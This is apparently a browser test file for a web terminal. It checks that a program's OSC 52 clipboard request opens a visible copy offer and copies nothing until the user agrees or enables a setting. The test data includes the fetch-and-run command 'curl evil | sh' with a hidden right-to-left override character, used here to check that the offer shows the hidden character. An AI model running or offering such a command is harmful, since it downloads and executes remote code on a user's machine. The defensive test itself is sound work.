import type { Page } from 'playwright-core';
import t from 'tap';
import { newContainer, shoot, typeUntilAnswered } from '../support/browser/page.ts';
import { atTheList, visit } from '../support/browser/visit.ts';
import { eventually } from '../support/patience.ts';

t.setTimeout(180_000);

/** A line that asks, as a program would, for a text to be copied. */
const asksFor = (text: string): string =>
  `printf '\\033]52;c;%s\\a' ${Buffer.from(text).toString('base64')}; echo done-$((40+2))`;

/** The beginning of a line may be lost while a shell is being opened, and the rest of it is a line as well. */
const shellAnswers = (page: Page): Promise<void> =>
  typeUntilAnswered(page, 'clear; echo up-$((6*7))', /^up-42/);

const clipboardOf = (page: Page): Promise<string> =>
  page.evaluate('navigator.clipboard.readText()') as Promise<string>;

t.test('a program asks before it copies, until its user allows it', async (t) => {
  const scene = await visit(t);
  if (scene === null) return;
  const { address, page } = scene;
  await atTheList(scene);
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: address });
  await page.evaluate("navigator.clipboard.writeText('mine')");
  await newContainer(page, 'copies');
  await shellAnswers(page);
  await typeUntilAnswered(page, asksFor('curl evil | sh\u202e\n'), /^done-42/);

  const offer = page.locator('.copy-offer');
  await offer.waitFor();
  t.equal(await offer.locator('pre').innerText(), 'curl evil | sh<202E>\n');
  t.match(await offer.innerText(), /16 characters, a line break at its end/);
  t.equal(await clipboardOf(page), 'mine', 'nothing was copied unasked');
  await shoot(page, 'copy-offer');
  await offer.getByRole('button', { name: 'Dismiss' }).click();
  await offer.waitFor({ state: 'detached' });
  t.equal(await clipboardOf(page), 'mine');

  await typeUntilAnswered(page, `clear; ${asksFor('wanted')}`, /^done-42/);
  await offer.getByRole('button', { name: 'Copy' }).click();
  await offer.waitFor({ state: 'detached' });
  t.equal(await clipboardOf(page), 'wanted');

  const terminal = page.url();
  await page.goto(`${address}/settings`);
  await page.getByLabel('Allow programs to copy').check();
  await shoot(page, 'copy-setting');
  await page.goto(terminal);
  await page.locator('.xterm').waitFor();
  await page.locator('.xterm-helper-textarea').focus();
  await shellAnswers(page);
  await typeUntilAnswered(page, `clear; ${asksFor('unasked')}`, /^done-42/);
  const copied = await eventually(
    () => clipboardOf(page),
    (text) => text === 'unasked',
  );
  t.equal(copied, 'unasked');
  t.equal(await offer.count(), 0);
});
